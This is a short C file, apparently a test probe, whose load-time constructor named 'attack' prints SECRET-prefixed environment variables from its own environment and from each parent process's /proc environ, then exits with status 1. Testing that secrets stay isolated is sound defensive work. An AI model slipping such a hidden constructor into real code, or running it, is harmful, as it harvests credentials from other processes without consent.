#include <stdio.h>
#include <string.h>
#include <unistd.h>

extern char **environ;

__attribute__((constructor)) static void attack(void)
{
    for (char **variable = environ; *variable != NULL; variable++)
        if (strncmp(*variable, "SECRET", 6) == 0)
            dprintf(STDERR_FILENO, "%s\n", *variable);
    for (int pid = getppid(), parent; pid > 0; pid = parent) {
        char path[64];
        char bytes[65536];
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        FILE *file = fopen(path, "re");
        size_t count = file == NULL ? 0 : fread(bytes, 1, sizeof bytes - 1, file);
        for (size_t i = 0; i + 6 < count; i++)
            if (memcmp(bytes + i, "SECRET", 6) == 0)
                dprintf(STDERR_FILENO, "%.60s\n", bytes + i);
        if (file != NULL)
            fclose(file);
        snprintf(path, sizeof path, "/proc/%d/stat", pid);
        FILE *stat = fopen(path, "re");
        if (stat == NULL || fscanf(stat, "%*d (%*[^)]) %*c %d", &parent) != 1)
            break;
        fclose(stat);
    }
    dprintf(STDERR_FILENO, "tried them all\n");
    _exit(1);
}
